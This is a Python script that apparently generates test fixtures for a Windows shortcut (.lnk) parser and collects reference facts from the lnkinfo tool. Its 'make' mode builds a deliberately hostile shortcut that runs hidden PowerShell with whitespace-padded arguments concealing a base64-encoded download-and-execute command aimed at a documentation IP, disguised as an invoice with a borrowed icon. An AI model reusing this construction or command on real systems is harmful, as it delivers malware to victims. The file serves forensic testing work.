#!/usr/bin/python3
# Shortcut fixtures and reference facts for cli_lnk.
#   lnk_ref.py make DIR      write DIR/hostile.lnk ([MS-SHLLINK]: a LinkInfo
#                            local path to powershell.exe, Unicode strings,
#                            padded arguments hiding -enc, a borrowed icon, a
#                            tracker block with a version-1 droid) and
#                            DIR/encoded.txt (the decoded command)
#   lnk_ref.py facts FILE... the facts lnkinfo (liblnk-utils) prints, as
#                            "field<TAB>file<TAB>value" lines
# SPDX-License-Identifier: Apache-2.0
import base64
import datetime
import os
import struct
import subprocess
import sys
import uuid

TARGET = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
COMMAND = 'IEX (New-Object Net.WebClient).DownloadString("http://198.51.100.9/a.ps1")'


def ustr(s):
    return struct.pack("<H", len(s)) + s.encode("utf-16-le")


def make(out):
    os.makedirs(out, exist_ok=True)
    enc = base64.b64encode(COMMAND.encode("utf-16-le")).decode()
    args = "-nop -w hidden" + " " * 300 + "-enc " + enc
    # HasLinkInfo, HasName, HasWorkingDir, HasArguments, HasIconLocation,
    # IsUnicode (no LinkTargetIDList)
    flags = 0x2 | 0x4 | 0x10 | 0x20 | 0x40 | 0x80
    ft = (1727776800 + 11644473600) * 10000000
    hdr = struct.pack("<I16sIIQQQIiIH10s", 0x4C, uuid.UUID("00021401-0000-0000-C000-000000000046").bytes_le,
                      flags, 0x20, ft, ft + 10000000, ft + 20000000, 452608, 3, 7, 0, b"\0" * 10)
    label = b"EVIDENCE\0"
    volume = struct.pack("<IIII", 16 + len(label), 3, 0x1234ABCD, 16) + label
    base = TARGET.encode("ascii") + b"\0"
    suffix = b"\0"
    head = 0x1C
    vol_off = head
    base_off = vol_off + len(volume)
    suf_off = base_off + len(base)
    size = suf_off + len(suffix)
    linkinfo = struct.pack("<IIIIIII", size, head, 1, vol_off, base_off, 0, suf_off) + volume + base + suffix
    strings = (ustr("\u8acb\u6c42\u66f8 (invoice)") + ustr("C:\\Users\\Public")
               + ustr(args) + ustr("%SystemRoot%\\System32\\imageres.dll"))
    droid_vol = uuid.UUID("11111111-2222-4333-8444-555555555555")
    droid_file = uuid.UUID("958705b5-0d19-11df-9fe4-080027aabbcc")
    tracker = struct.pack("<IIII16s", 0x60, 0xA0000003, 0x58, 0, b"desktop-evil".ljust(16, b"\0"))
    tracker += droid_vol.bytes_le + droid_file.bytes_le + droid_vol.bytes_le + droid_file.bytes_le
    data = hdr + linkinfo + strings + tracker + b"\0\0\0\0"
    with open(os.path.join(out, "hostile.lnk"), "wb") as f:
        f.write(data)
    with open(os.path.join(out, "encoded.txt"), "w") as f:
        f.write(COMMAND)
    # cut in the middle of the string data
    with open(os.path.join(out, "cut.lnk"), "wb") as f:
        f.write(data[: len(hdr) + len(linkinfo) + 40])


FIELDS = {
    "Local path": "local_path",
    "Relative path": "relative_path",
    "Working directory": "working_directory",
    "Command line arguments": "arguments",
    "Icon location": "icon_location",
    "Description": "description",
    "Environment variables location": "environment_location",
    "Machine identifier": "machine_id",
    "Droid file identifier": "droid_file_id",
    "Birth droid file identifier": "birth_droid_file_id",
    "Volume label": "volume_label",
    "Drive serial number": "drive_serial",
    "Creation time": "target_created_utc",
    "Modification time": "target_modified_utc",
    "Access time": "target_accessed_utc",
    "File size": "target_size",
}


def value(key, v):
    if key.endswith("_utc"):
        d, frac = v[: -len(" UTC")].rsplit(".", 1)
        t = datetime.datetime.strptime(d, "%b %d, %Y %H:%M:%S")
        return t.strftime("%Y-%m-%dT%H:%M:%S") + "." + frac[:7] + "Z"
    if key == "drive_serial":
        return v[2:]
    if key == "target_size":
        return v.split(" ")[0]
    return v


def facts(files):
    for path in files:
        out = subprocess.run(["lnkinfo", path], capture_output=True).stdout.decode("utf-8", "replace")
        name = os.path.basename(path)
        for line in out.split("\n"):
            if ":" not in line or not line.startswith("\t") or line.startswith("\t\t"):
                continue
            k, v = line[1:].split(":", 1)
            k = k.strip()
            if k in FIELDS and v.startswith(" "):
                print("%s\t%s\t%s" % (FIELDS[k], name, value(FIELDS[k], v[1:])))


if __name__ == "__main__":
    if sys.argv[1] == "make":
        make(sys.argv[2])
    else:
        facts(sys.argv[2:])
